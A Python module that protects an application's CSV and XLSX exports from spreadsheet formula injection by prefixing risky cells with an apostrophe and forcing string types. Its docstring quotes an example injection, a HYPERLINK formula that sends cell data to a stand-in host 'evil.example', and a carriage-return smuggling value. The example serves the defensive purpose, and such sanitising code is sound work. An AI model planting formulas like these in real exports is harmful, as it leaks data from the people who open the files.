"""Cells that a spreadsheet cannot run: formula neutralising for every CSV and XLSX we write.

Excel, LibreOffice and Google Sheets treat a cell whose text starts with ``=``, ``+``, ``-``
or ``@`` as a formula, and a leading tab or carriage return can hide such a start. An
organisation name like ``=HYPERLINK("https://evil.example/?"&A1)`` typed into an import file
or the respondent form would otherwise run on the facilitator's machine when they open an
export (product.md §6, docs/security.md). Every writer therefore passes its cells through
`neutralise`, which puts an apostrophe in front of such text — the spreadsheet convention for
"this is text" — unless the text is simply a number such as ``-0.5``.

XLSX cells are in addition written with an explicit string type (`xlsx_cell`), because
openpyxl stores any string starting with ``=`` as a live formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, Final

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

#: Leading characters that make a spreadsheet read a cell as a formula (product.md §6).
TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
#: What `neutralise` puts in front: the apostrophe every spreadsheet reads as "text follows".
PREFIX: Final = "'"

_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?", re.ASCII)

__all__ = ["PREFIX", "TRIGGERS", "csv_row", "neutralise", "neutralise_row", "xlsx_cell"]


def neutralise(value: Any) -> Any:
    """`value` unchanged, unless it is text a spreadsheet would run as a formula.

    Numbers (also numbers written as text, like ``"-0.5"`` or ``"+3"``) are left alone, so
    exports stay readable by `regiekompas analyse`; other text starting with one of
    `TRIGGERS` gets `PREFIX` in front.
    """
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if _NUMBER.fullmatch(value.replace("\u2212", "-")):
        return value
    return PREFIX + value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    """A row with every cell passed through `neutralise`."""
    return [neutralise(value) for value in row]


def csv_row(row: Iterable[Any]) -> list[Any]:
    """`neutralise_row` for a CSV written with bare "\n" line ends.

    Python's csv module then leaves a carriage return inside a value unquoted, and every
    spreadsheet reads it as the end of a row — so ``"a\r=1+1"`` would put a live ``=1+1`` at
    the start of a new row. Carriage returns inside text become "\n", which is quoted.
    """
    return [
        value.replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value
        for value in neutralise_row(row)
    ]


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A value for a write-only openpyxl sheet: text is neutralised and typed as a string.

    Characters that XLSX cannot hold (control characters) are dropped; non-text values are
    returned as they are.
    """
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=neutralise(ILLEGAL_CHARACTERS_RE.sub("", value)))
    cell.data_type = "s"
    return cell
